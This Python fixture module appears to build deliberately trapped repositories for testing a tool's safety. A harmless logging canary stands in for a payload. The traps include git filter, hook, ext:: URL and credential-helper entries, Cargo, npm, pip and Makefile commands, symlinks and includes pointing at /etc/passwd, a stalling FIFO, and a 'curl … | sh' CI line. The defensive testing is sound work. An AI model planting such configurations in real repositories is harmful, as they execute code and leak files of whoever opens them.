"""Makes repositories that would run something, lead out, or stall whoever touches them, for strace.py.

Whatever runs calls `evil`, which leaves its name in a directory of canaries and then behaves as a filter does.
"""
import os, subprocess

# What is in files outside, and is to be in no report.
SECRET = "words-from-outside"

PACKAGE = '[package]\nname = "%s"\nversion = "0.1.0"\nedition = "2021"\nbuild = "build.rs"\n\n[dependencies]\n%s\n'
LOCK = """version = 4

[[package]]
name = "demo"
version = "0.1.0"
dependencies = [
 "serde",
]

[[package]]
name = "serde"
version = "%s"
source = "registry+https://github.com/rust-lang/crates.io-index"
checksum = "%s"
"""


def evil(tmp):
    path = tmp / "bin/evil"
    write(path, f'#!/bin/sh\necho "$0 $*" >> "{tmp}/canaries/$(basename "${{1:-none}}")"\ncase "$1" in (filter|textconv) shift; cat "$@" ;; esac\n', mode=0o755)
    return path


def write(path, text, mode=0o644):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


def git(tmp, root, *arguments):
    who = {f"GIT_{one}_{what}": "a@example.com" for one in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    environment = {"PATH": os.environ["PATH"], "HOME": str(tmp / "nobody"), **who}
    subprocess.run(["git", "-C", root, "-c", "protocol.file.allow=always", "-c", "init.defaultBranch=main", *arguments], check=True, capture_output=True, env=environment)


def user(tmp):
    """The user's home, with a configuration of git that includes another file of theirs and names ignore rules."""
    write(tmp / "home/.gitconfig", '[include]\n\tpath = more.gitconfig\n[user]\n\tname = somebody\n')
    write(tmp / "home/more.gitconfig", "[core]\n\texcludesFile = ~/ignore\n")
    write(tmp / "home/ignore", "*.orig\n")
    write(tmp / "home/cargo/config.toml", '[registries.other]\nindex = "sparse+https://example.com/"\n')
    (tmp / "canaries").mkdir()
    outside = tmp / "outside"
    write(outside / "secret/Cargo.toml", PACKAGE % ("secret", f'{SECRET} = "1"'))
    for name in ("secret.toml", "ignore", "attributes", "gitconfig", "Dockerfile", "package.json", "requirements.txt"):
        write(outside / name, SECRET + "\n")
    os.mkfifo(outside / "fifo")


def files(tmp):
    """What is committed."""
    run, outside = evil(tmp), tmp / "outside"
    return {
        "Cargo.toml": PACKAGE % ("demo", f'serde = "1"\nout = {{ path = "../outside/secret" }}\nfar = {{ path = "{outside}/secret" }}') + '\n[workspace]\nmembers = ["../outside/secret", "linked"]\n',
        "Cargo.lock": LOCK % ("1.0.1", "01" * 32),
        "build.rs": f'fn main() {{ std::process::Command::new("{run}").arg("build").status().unwrap(); }}\n',
        "src/lib.rs": "",
        "pinned.toml": 'exclude = ["../outside/**", "/etc/**"]\n\n[rules]\nchecksum-changed = "deny"\n',
        ".cargo/config.toml": f"""include = ["../../outside/secret.toml", "{outside}/secret.toml", "{outside}/fifo"]
paths = ["{outside}/secret"]
[build]
rustc = "{run}"
rustc-wrapper = "{run}"
rustc-workspace-wrapper = "{run}"
[target.'cfg(all())']
runner = ["{run}", "runner"]
linker = "{run}"
[registry]
global-credential-providers = ["{run} credentials"]
[credential-alias]
cargo-evil = ["{run}", "credentials"]
[registries.evil]
index = "sparse+file://{outside}/"
credential-provider = ["{run}", "credentials"]
[alias]
check = "!{run} alias"
[env]
CARGO_HOME = {{ value = "{outside}", force = true }}
GIT_SSH_COMMAND = {{ value = "{run} ssh", force = true }}
[net]
git-fetch-with-cli = true
[source.crates-io]
replace-with = "evil"
[source.evil]
local-registry = "{outside}"
""",
        "rust-toolchain.toml": f'[toolchain]\npath = "{tmp}/bin"\n',
        ".gitattributes": "* filter=evil diff=evil merge=evil text=auto\n",
        ".gitmodules": '[submodule "a"]\n\tpath = a\n\turl = ext::sh -c evil\n\tupdate = !evil submodule\n[submodule "b"]\n\tpath = ../outside\n\turl = file:///etc\n',
        ".github/workflows/ci.yml": "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: ../outside\n      - run: curl https://example.com/x.sh | sh; pip install -r ../../outside/requirements.txt\n",
        "Dockerfile": "# syntax=docker/dockerfile:1\nFROM rust:1\nCOPY ../../outside /x\nRUN cargo install ripgrep && ./evil\n",
        "package.json": '{"name": "demo", "scripts": {"preinstall": "%s npm", "prepare": "%s npm"}, "dependencies": {"a": "^1", "b": "file:../outside"}, "workspaces": ["../outside"]}\n' % (run, run),
        "package-lock.json": '{"name": "demo", "lockfileVersion": 3, "packages": {"": {"dependencies": {"a": "^1"}}, "node_modules/a": {"version": "1.0.0"}}}\n',
        ".npmrc": f"script-shell={run}\nnode-options=--require {run}\nuserconfig={outside}/secret.toml\n",
        ".pnpmfile.cjs": f"require('child_process').execSync('{run} pnpm')\n",
        "pnpm-workspace.yaml": "packages:\n  - ../outside/*\n",
        ".yarnrc.yml": f"yarnPath: {run}\nplugins:\n  - path: {run}\n",
        "requirements.txt": f"-r ../outside/requirements.txt\n-c {outside}/requirements.txt\n-r file://{outside}/requirements.txt\n-e ../outside\nrequests>=2\n",
        "pyproject.toml": '[project]\nname = "demo"\nversion = "0"\ndependencies = ["requests"]\n[build-system]\nrequires = ["setuptools"]\nbackend-path = ["../outside"]\n[tool.uv.sources]\nrequests = { path = "../outside" }\n',
        "setup.py": f"import os; os.system('{run} python')\n",
        "setup.cfg": "[metadata]\nversion = attr: evil.version\n",
        "pip.conf": f"[global]\nindex-url = file://{outside}\n",
        "Makefile": f"X := $(shell {run} make)\nall:\n\t{run} make\n",
        ".envrc": f"{run} direnv\n",
        ".pre-commit-config.yaml": f"repos:\n  - repo: local\n    hooks:\n      - {{id: a, name: a, entry: {run} pre-commit, language: system}}\n",
        "install.sh": f"#!/bin/sh\n. {outside}/secret.toml\n. ../outside/secret.toml\n$({run} shell) && npm i -g x\n",
        "index.html": f'<script src="file://{outside}/secret.toml"></script><script src="https://cdn.example.com/a@1/a.js"></script>\n',
    }


LINKS = {
    "linked": "../outside/secret",
    "sub/Cargo.toml": "../../outside/secret/Cargo.toml",
    "sub/Dockerfile": "../../outside/Dockerfile",
    "sub/package.json": "../../outside/package.json",
    "sub/requirements.txt": "../../outside/requirements.txt",
    "sub/.gitignore": "../../outside/ignore",
    "sub/Containerfile": "../../outside/fifo",
    "etc": "/etc",
}

# A policy whose rules ask how old releases are.
ASKING = '[rules]\nrelease-too-new = "warn"\nrelease-yanked = "warn"\n'

HOOKS = "applypatch-msg post-checkout post-index-change post-merge pre-commit reference-transaction fsmonitor-watchman".split()


def configuration(tmp):
    """What a configuration of git can run, and what of it can lead elsewhere."""
    run, outside = evil(tmp), tmp / "outside"
    return f"""
[core]
	fsmonitor = {run} fsmonitor
	sshCommand = {run} ssh
	pager = {run} pager
	editor = {run} editor
	askPass = {run}
	gitProxy = {run}
	alternateRefsCommand = {run} alternates
	hooksPath = {outside}/hooks
	excludesFile = {outside}/ignore
	attributesFile = {outside}/attributes
	untrackedCache = true
	preloadIndex = true
[filter "evil"]
	clean = {run} filter
	smudge = {run} filter
	process = {run} process
	required = true
[diff]
	external = {run} external
[diff "evil"]
	command = {run} external
	textconv = {run} textconv
[merge "evil"]
	driver = {run} merge
[alias]
	status = !{run} alias
[credential]
	helper = !{run} credential
[gpg]
	program = {run}
[uploadpack]
	packObjectsHook = {run} upload
[submodule]
	recurse = true
[submodule "a"]
	update = !{run} submodule
	url = ext::{run} %S
[remote "origin"]
	url = ext::{run} %S
	uploadpack = {run} upload
	vcs = evil
	promisor = true
	partialCloneFilter = blob:none
[url "ext::{run} %S"]
	insteadOf = https
[safe]
	directory = *
[trace2]
	eventTarget = {tmp}/canaries/trace2
[maintenance]
	auto = true
"""


# What leads out of a repository by way of its configuration alone.
INCLUDES = """
[include]
	path = {outside}/gitconfig
	path = ../../outside/gitconfig
	path = {outside}/fifo
	path = /etc/passwd
	path = ~/secret.gitconfig
[includeIf "gitdir:/**"]
	path = {outside}/fifo
[includeIf "onbranch:main"]
	path = {outside}/gitconfig
"""


def repository(tmp, name, more={}):
    """A repository of two commits, with all of that; what is staged differs, and so do its files."""
    root = tmp / name
    root.mkdir()
    git(tmp, root, "init", "--quiet")
    for path, text in {**files(tmp), **more}.items():
        write(root / path, text)
    for path, target in LINKS.items():
        (root / path).parent.mkdir(exist_ok=True)
        (root / path).symlink_to(target)
    git(tmp, root, "add", "--all")
    git(tmp, root, "commit", "--quiet", "--message", "one")
    write(root / "Cargo.lock", LOCK % ("1.0.2", "02" * 32))
    git(tmp, root, "commit", "--quiet", "--all", "--message", "two")
    git(tmp, root, "update-ref", "refs/replace/" + "1" * 40, "HEAD")
    write(root / "new/package.json", '{"dependencies": {"b": "*"}}\n')
    git(tmp, root, "add", "new")
    write(root / "untracked/Dockerfile", "FROM rust\n")
    write(root / "untracked/.gitignore", "*.txt\n")
    # A filter is asked of what was touched alone.
    os.utime(root / "Cargo.toml", (1, 1))
    return root


def arm(tmp, git_directory, more=""):
    """Gives a repository its configuration and its hooks."""
    with (git_directory / "config").open("a") as file:
        file.write(configuration(tmp) + more)
    for name in HOOKS:
        for hook in (git_directory / "hooks" / name, tmp / "outside/hooks" / name):
            write(hook, f"#!/bin/sh\n{evil(tmp)} hook-{name}\n", mode=0o755)


def ran(tmp):
    """The canaries so far, which are taken away."""
    found = sorted(path.name for path in (tmp / "canaries").iterdir())
    for path in (tmp / "canaries").iterdir():
        path.unlink()
    return found
